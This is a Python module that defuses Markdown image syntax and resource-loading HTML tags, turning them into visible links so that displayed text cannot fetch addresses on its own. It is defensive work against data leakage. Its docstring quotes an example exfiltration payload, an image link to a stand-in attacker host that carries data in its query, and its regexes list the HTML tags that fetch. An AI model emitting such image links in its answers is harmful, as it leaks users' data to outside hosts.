"""Markdown from outside, made safe to show: what a viewer would fetch by itself becomes a link that shows its address.

`![](https://evil.example/?q=...)` in an answer sends what stands behind the question mark as soon as a host shows it,
without anybody's click. Code stays as it is where it is certain to be code: in a fence that begins at the left margin.
Where that is not certain, a picture's syntax is taken apart, which harms nobody.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

_FENCE = re.compile(r"(`{3,}(?=[^`\n]*$)|~{3,})")
_CLOSING = re.compile(r" {0,3}(`{3,}|~{3,})[ \t]*$")
_RAW_HTML = re.compile(r"[\s>*+\-0-9.)]{0,40}<(?:script|pre|style|textarea|[!?])", re.IGNORECASE)
"""Begins a block in which fences mean nothing (CommonMark 0.31, section 4.6, conditions 1 to 5)."""
_INLINE = re.compile(
    r"!\[((?:[^\[\]\\]|\\.|\[[^\[\]]{0,200}\]){0,500})\]"
    r"\(\s{0,20}(?:<([^<>\n]{0,4000})>|([^\s()<>]{0,4000}(?:\([^\s()<>]{0,2000}\)[^\s()<>]{0,2000}){0,3}))"
    r"(?:\s{1,20}(?:\"[^\"]{0,500}\"|'[^']{0,500}'|\([^()]{0,500}\)))?\s{0,20}\)"
)
_REFERENCE = re.compile(r"!\[((?:[^\[\]\\]|\\.){0,500})\](?:\[((?:[^\[\]\\]|\\.){0,500})\])?")
_DEFINITION = re.compile(r"^[\s>]{0,12}\[((?:[^\[\]\\]|\\.){1,500})\]:\s{0,20}<?([^\s<>]{1,4000})", re.MULTILINE)
_LOADS = re.compile(
    r"<(?=/?(?:img|image|picture|source|video|audio|track|embed|object|iframe|frame|frameset|link|script|style|svg|input"
    r"|base|meta|body|table|td|th|tr|div|span|p|portal|applet|bgsound|form|button)\b)",
    re.IGNORECASE,
)
"""HTML that fetches, or may do so by a style or a background."""


def without_pictures(text: str) -> str:
    """*text* with nothing in it that a viewer of Markdown or HTML fetches by itself."""
    if "![" not in text and "<" not in text:
        return text
    known = {_name(found[1]): found[2] for found in _DEFINITION.finditer(text)}
    return "".join(part if is_code else _taken_apart(part, known) for part, is_code in _parts(text))


def _parts(text: str) -> Iterator[tuple[str, bool]]:
    """The text in pieces, each with whether it is surely code."""
    prose: list[str] = []
    lines = iter(text.splitlines(keepends=True))
    fences, in_html = True, False
    for line in lines:
        words = line.lstrip(" \t>")
        in_html = (in_html or words.startswith("<")) and bool(words.strip())  # ends with a blank line
        fences = fences and _RAW_HTML.match(line) is None
        begun = _FENCE.match(line.rstrip("\r\n")) if fences and not in_html and line[0] in "`~" else None
        if begun is None:
            prose.append(line)
            continue
        yield "".join(prose), False
        prose = []
        yield from _fenced(line, begun[1], lines)
    yield "".join(prose), False


def _fenced(opening: str, mark: str, lines: Iterator[str]) -> Iterator[tuple[str, bool]]:
    code = [opening]
    for line in lines:
        code.append(line)
        end = _CLOSING.match(line.rstrip("\r\n"))
        if end and end[1][0] == mark[0] and len(end[1]) >= len(mark):
            break
    yield "".join(code), True


def _taken_apart(text: str, known: dict[str, str]) -> str:
    if "![" in text:
        text = _INLINE.sub(lambda found: _shown(found[1], found[2] or found[3] or ""), text)
        text = _REFERENCE.sub(lambda found: _referred(found, known), text)
        if known or "](" in text:  # too long or too deep to be told from a picture by its syntax
            text = text.replace("![", "!\\[")
    return _LOADS.sub("&lt;", text) if "<" in text else text


def _referred(found: re.Match[str], known: dict[str, str]) -> str:
    address = known.get(_name(found[2] or found[1]))
    return found[0] if address is None else _shown(found[1], address)


def _shown(description: str, address: str) -> str:
    told = f"picture: {description.strip()}" if description.strip() else "picture"
    return f"({told}, <{address}>)" if address.startswith(("http://", "https://")) else f"({told}, {address})"


def _name(label: str) -> str:
    return " ".join(label.split()).casefold()
